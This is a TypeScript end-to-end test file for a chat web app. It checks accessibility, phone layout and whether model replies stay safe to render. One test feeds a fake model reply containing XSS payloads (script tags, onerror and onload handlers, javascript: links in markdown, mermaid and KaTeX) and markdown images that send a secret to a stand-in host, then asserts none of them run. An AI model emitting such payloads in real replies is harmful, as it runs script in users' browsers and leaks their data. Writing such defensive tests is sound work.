import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { answers, createFirstAccount, createStage, sayAndWait, signIn, type Stage } from '../harness/stage.ts';

let stage: Stage;
let axe: string;
beforeAll(async () => {
  axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
  stage = await createStage();
});
afterAll(() => stage.close());

interface Violation {
  id: string;
  impact: string;
  nodes: { target: string[] }[];
}

/** What axe-core finds that would keep someone out. The page's policy forbids foreign scripts, so it runs through the debugger. */
async function violations(page: Page): Promise<string[]> {
  await page.evaluate(axe);
  const found = (await page.evaluate('axe.run().then((result) => result.violations)')) as Violation[];
  return found
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(' ')).join(', ')}`);
}

const overflow = (page: Page) =>
  page.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth');

const markdown = [
  '# A heading',
  'Some **bold**, `code`, a [link](https://example.com) and a price of $5 or $10.',
  '```ts\nexport const answer: number = 42; // a rather long line that will not fit on a phone, whatever its size may be\n```',
  '| a | b | c |\n| - | - | - |\n| 1 | a rather long cell that needs some room | 3 |',
  '> A quotation.\n\n1. One\n2. Two',
].join('\n\n');

describe('every page, both themes, desktop and phone', () => {
  test('the first account', async () => {
    const page = await stage.open();
    await page.getByRole('button', { name: 'Create the administrator account' }).waitFor();
    expect(await violations(page)).toEqual([]);
    await createFirstAccount(page);
    await page.context().close();
  });

  test.each([
    { isDark: false, isPhone: false },
    { isDark: true, isPhone: false },
    { isDark: false, isPhone: true },
    { isDark: true, isPhone: true },
  ])('sign in, empty chat and conversation: $isDark $isPhone', async (look) => {
    const page = await stage.open({ ...look, path: '/login' });
    await page.getByLabel('Email').waitFor();
    expect(await violations(page)).toEqual([]);
    expect(await overflow(page)).toBe(0);
    await signIn(page);
    expect(await violations(page)).toEqual([]);
    stage.fake.enqueue([
      { type: 'reasoning', text: 'Let me think about it.' },
      { type: 'text', text: markdown },
    ]);
    await sayAndWait(page, 'Show me everything');
    await answers(page).last().locator('table').waitFor();
    expect(await violations(page)).toEqual([]);
    expect(await overflow(page)).toBe(0);
    await page.context().close();
  });

  test('320 pixels are enough', async () => {
    const page = await stage.open({ path: '/login' });
    await page.setViewportSize({ width: 320, height: 640 });
    await signIn(page);
    await sayAndWait(page, 'A narrow page');
    expect(await overflow(page)).toBe(0);
    await page.context().close();
  });

  test('an unknown address says so', async () => {
    const page = await stage.open({ path: '/login' });
    await signIn(page);
    await page.goto(`${stage.app().url}/nowhere`);
    await page.getByText('There is nothing here.').waitFor();
    expect(await violations(page)).toEqual([]);
    await page.context().close();
  });
});

describe('what a model must not do to a reader', () => {
  test('no script runs, nothing foreign loads', async () => {
    const page = await stage.open({ path: '/login' });
    await signIn(page);
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(stage.app().url) && !/^(data|blob):/.test(request.url()))
        foreign.push(request.url());
    });
    stage.fake.enqueue([
      {
        type: 'text',
        text: [
          '<script>window.__xss = 1</script><img src=x onerror="window.__xss=2"><svg onload="window.__xss=3"></svg>',
          '![secret](https://sink.example/?q=SECRET) ![ref][r]\n\n[r]: https://sink.example/ref.png',
          '[click](javascript:window.__xss=4) <a href="javascript:window.__xss=5">me</a>',
          '```mermaid\ngraph TD; A-->B; click A "javascript:window.__xss=6"\n```',
          '$$\\href{javascript:window.__xss=7}{x} \\includegraphics{https://sink.example/k.png}$$',
        ].join('\n\n'),
      },
    ]);
    await sayAndWait(page, 'Be evil');
    await page.waitForTimeout(1500);
    expect(await page.evaluate('window.__xss')).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(await answers(page).last().locator('a[href^="javascript:"]').count()).toBe(0);
    await page.context().close();
  });
});
